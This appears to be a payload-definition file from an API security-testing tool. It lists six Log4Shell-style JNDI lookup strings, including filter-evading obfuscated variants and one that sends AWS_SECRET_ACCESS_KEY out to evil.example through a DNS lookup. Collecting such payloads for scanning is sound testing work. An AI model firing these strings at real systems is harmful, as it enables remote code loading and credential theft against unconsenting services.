import { definePayload } from '../world/payloads.ts'

export default definePayload({
  id: 'jndi',
  title: 'lookups that a logging library resolves',
  owasp: ['API8:2023'],
  inputs: ['text'],
  values: [
    '${jndi:ldap://203.0.113.9:1389/#}',
    '${${lower:j}ndi:${lower:l}dap://203.0.113.9/#}',
    '${jndi:rmi://203.0.113.9/#}',
    '${jndi:dns://#.evil.example}',
    '${${::-j}${::-n}${::-d}${::-i}:ldap://203.0.113.9/#}',
    '${jndi:ldaps://${env:AWS_SECRET_ACCESS_KEY}.evil.example/#}',
  ],
})
